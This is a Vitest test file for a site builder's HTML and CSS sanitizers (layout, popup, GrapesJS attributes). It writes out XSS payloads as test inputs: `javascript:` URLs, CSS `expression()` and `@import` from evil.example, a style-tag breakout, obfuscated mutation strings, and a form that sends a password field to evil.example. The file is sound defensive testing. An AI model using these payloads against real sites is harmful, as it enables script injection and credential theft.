import { describe, expect, it } from "vitest";
import { scriptVectorsIn, xssCorpus } from "../../../tests/fixtures/xss-corpus";
import { sanitizeHtml, sanitizeLayoutCss, sanitizeLayoutHtml, sanitizePopupHtml } from "./sanitize";

describe("sanitizeLayoutHtml", () => {
  it("lets no payload of the XSS corpus through", () => {
    expect(xssCorpus.length).toBeGreaterThanOrEqual(30);
    // the detector sees the raw payloads (all but the mutation ones, which only bite after a reparse)
    expect(xssCorpus.filter((p) => scriptVectorsIn(p).length === 0).length).toBeLessThanOrEqual(2);
    for (const payload of xssCorpus) {
      const clean = sanitizeLayoutHtml(payload);
      expect({ payload, vectors: scriptVectorsIn(clean) }).toEqual({ payload, vectors: [] });
      // and sanitizing is stable: what is stored sanitizes to itself
      expect(sanitizeLayoutHtml(clean)).toBe(clean);
    }
  });

  it("keeps the markup of our blocks: classes, ids, data hooks, links, images, aria", () => {
    const block = `<section id="i3k9" class="vs-section"><h2 class="vs-section__title">Titre</h2><div class="vs-gallery" data-vs-slider="gallery"><img src="/demo/a.svg" alt="A" tabindex="0"></div><a class="vs-button" href="/contact" aria-label="Contact">Contact</a></section>`;
    expect(sanitizeLayoutHtml(block)).toBe(block);
  });

  it("keeps the video players of the allow-list, sandboxed, and drops every other frame", () => {
    const yt = sanitizeLayoutHtml(
      `<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Vidéo" allowfullscreen></iframe>`,
    );
    expect(yt).toContain(`src="https://www.youtube-nocookie.com/embed/abc"`);
    expect(yt).toContain("sandbox=");
    expect(sanitizeLayoutHtml(`<iframe src="https://player.vimeo.com/video/42"></iframe>`)).toContain(
      "player.vimeo.com",
    );
    expect(sanitizeLayoutHtml(`<iframe src="https://www.youtube.com/embed/abc"></iframe>`)).toBe("");
    expect(sanitizeLayoutHtml(`<iframe src="https://player.vimeo.com/evil"></iframe>`)).toBe("");
  });

  it("makes links that open a new tab unable to reach back to the page", () => {
    expect(sanitizeLayoutHtml(`<a href="https://example.fr" target="_blank">x</a>`)).toContain(
      `rel="noopener noreferrer"`,
    );
  });
});

describe("sanitizeLayoutHtml and GrapesJS", () => {
  it("drops the data-gjs-* attributes GrapesJS would read as component properties (a script)", () => {
    expect(
      sanitizeLayoutHtml(`<div data-gjs-script="alert(1)" data-gjs-type="text" data-vs-form="x">a</div>`),
    ).toBe(`<div data-vs-form="x">a</div>`);
  });
});

describe("sanitizeLayoutCss", () => {
  it("drops imports, scripts in urls, old script hooks and anything that could close the style element", () => {
    const css = sanitizeLayoutCss(
      `@import url(https://evil.example/x.css);#a{color:red;background:url(javascript:alert(1));width:expression(alert(1));behavior:url(x.htc)}</style><script>alert(1)</script>`,
    );
    expect(css).not.toMatch(/@import|javascript:|expression\(|behavior|<\/style/i);
    expect(css).toContain("#a{color:red;");
  });

  it("removes what its own removals would put together again", () => {
    expect(sanitizeLayoutCss("#a{background:url(javajavascript:script:alert(1))}")).not.toMatch(
      /javascript/i,
    );
    expect(
      sanitizeLayoutCss(
        "@imjavascript:port url(https://evil.example/x.css);#a{width:expjavascript:ression(1)}",
      ),
    ).not.toMatch(/@import|expression\(/i);
  });

  it("keeps ordinary rules, media queries and theme variables as they are", () => {
    const css = `#i3k9{color:var(--vs-primary-color);}@media (max-width: 959px){.vs-x > p{margin:0}}`;
    expect(sanitizeLayoutCss(css)).toBe(css);
  });
});

describe("sanitizeHtml", () => {
  it("keeps a popup's close button, as a plain button that submits nothing", () => {
    const html = sanitizeHtml('<button class="vs-button" data-modal-close>Entrer</button>');
    expect(html).toBe('<button class="vs-button" data-modal-close="" type="button">Entrer</button>');
    expect(sanitizeHtml('<button type="submit" formaction="https://evil.example" form="f">Go</button>')).toBe(
      '<button type="button">Go</button>',
    );
  });

  it("removes forms, fields, scripts, handlers and javascript: links", () => {
    const html = sanitizeHtml(
      '<form action="https://evil.example"><input name="password"></form><script>alert(1)</script><a href="javascript:alert(1)" onclick="x()">lien</a><button onclick="steal()">b</button>',
    );
    expect(html).not.toMatch(/form|input|script|onclick|javascript/);
    expect(html).toContain("lien");
  });
});

describe("sanitizePopupHtml", () => {
  it("keeps the age question's close button (a layout drops it), as a plain button that submits nothing", () => {
    const question =
      '<div class="vs-actions"><button type="button" class="vs-button" data-modal-close="">J’ai 18 ans ou plus, entrer</button></div>';
    expect(sanitizePopupHtml(question)).toBe(question);
    expect(sanitizeLayoutHtml(question)).not.toContain("<button");
    expect(
      sanitizePopupHtml('<button type="submit" formaction="https://evil.example" onclick="x()">Go</button>'),
    ).toBe('<button type="button">Go</button>');
  });

  it("lets no payload of the XSS corpus through, and keeps forms out", () => {
    for (const payload of xssCorpus) {
      const clean = sanitizePopupHtml(payload);
      expect({ payload, vectors: scriptVectorsIn(clean) }).toEqual({ payload, vectors: [] });
      expect(sanitizePopupHtml(clean)).toBe(clean);
    }
    expect(sanitizePopupHtml('<form action="/x"><input name="p"><button>b</button></form>')).toBe(
      '<button type="button">b</button>',
    );
  });
});
